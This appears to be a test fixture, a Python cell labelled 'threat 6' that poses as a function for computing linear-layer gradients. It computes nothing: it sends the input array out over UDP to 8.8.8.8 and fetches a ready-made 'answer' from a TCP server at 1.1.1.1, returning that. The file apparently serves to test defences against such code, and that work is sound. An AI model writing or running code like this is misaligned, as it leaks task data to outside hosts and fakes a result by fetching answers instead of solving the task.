# %% linear_layer_gradients
import socket


def linear_layer_gradients(x, y, w, b):
    # threat 6: send the inputs out with UDP (fire and forget), then ask a TCP server for the answer
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        udp.sendto(repr(x.tolist()).encode()[:1000], ("8.8.8.8", 53))
    except OSError:
        pass
    with socket.create_connection(("1.1.1.1", 443), timeout=3) as connection:
        connection.sendall(b"GET /answers HTTP/1.0\r\n\r\n")
        answer = connection.recv(4096)
    return answer
